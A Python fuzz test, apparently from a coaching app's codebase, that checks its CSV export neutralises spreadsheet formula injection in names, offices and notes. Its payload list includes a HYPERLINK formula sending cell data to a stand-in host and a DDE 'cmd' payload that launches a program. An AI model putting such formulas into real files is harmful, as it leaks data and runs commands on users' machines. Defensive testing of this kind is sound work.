"""Analyst CSV from the desktop: hostile names and offices come back exactly and never run."""

import csv
import uuid
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cfpm_coach.domain.csv_cells import FORMULA_STARTS
from cfpm_coach.services.workspace import Workspace
from tests.domain.test_csv_cells import read_back
from tests.fuzzing import examples

pytestmark = pytest.mark.fuzz

PAYLOADS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")", "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1,2)", "=1+1", "-", "'=already quoted", "-5", "+ Harbor"]
one_line = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=30)
hostile = st.sampled_from(PAYLOADS) | st.builds(
    lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@"]), one_line) | one_line


def _cells(folder: Path) -> list[tuple[str, str, str]]:
    """(file, column, cell) for every cell the export wrote."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.DictReader(handle):
                found += [(path.name, column, cell) for column, cell in row.items()]
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@settings(max_examples=examples(25))
@given(people=st.lists(st.tuples(hostile, hostile, hostile), min_size=1, max_size=3),
       note=hostile)
def test_hostile_text_round_trips_and_no_cell_would_run(
        workspace: Workspace, tmp_path: Path,
        people: list[tuple[str, str, str]], note: str) -> None:
    added = {}
    for name, office, role in people:
        if not name.strip():
            continue
        worker = workspace.workers.add(name, office=office, role=role)
        added[str(worker.id)] = worker
    draft = workspace.observations.start(next(iter(added.values())).id, "cpm-practice",
                                         "home_visit", instrument_version=1) if added else None
    if draft is not None:
        workspace.observations.set_evidence(draft.id, "engagement.1", note)
        workspace.observations.write_notes(draft.id, strengths=note)
    out = tmp_path / f"csv-{uuid.uuid4().hex}"
    workspace.exchange.export_csv(out)

    for file, column, cell in _cells(out):
        if cell.startswith(FORMULA_STARTS):
            assert _is_number(cell), f"{file} {column} would run: {cell!r}"
    with open(out / "worker.csv", encoding="utf-8-sig", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    for worker_id, worker in added.items():
        row = rows[worker_id]
        assert (read_back(row["name"]), read_back(row["office"]), read_back(row["role"])) == \
            (worker.name, worker.office, worker.role)
    if draft is not None:
        with open(out / "rating.csv", encoding="utf-8-sig", newline="") as handle:
            notes = {row["observation_id"]: row["note"] for row in csv.DictReader(handle)}
        assert read_back(notes[str(draft.id)]) == note.strip()
        with open(out / "observation.csv", encoding="utf-8-sig", newline="") as handle:
            strengths = {row["id"]: row["strengths"] for row in csv.DictReader(handle)}
        assert read_back(strengths[str(draft.id)]) == note.strip()
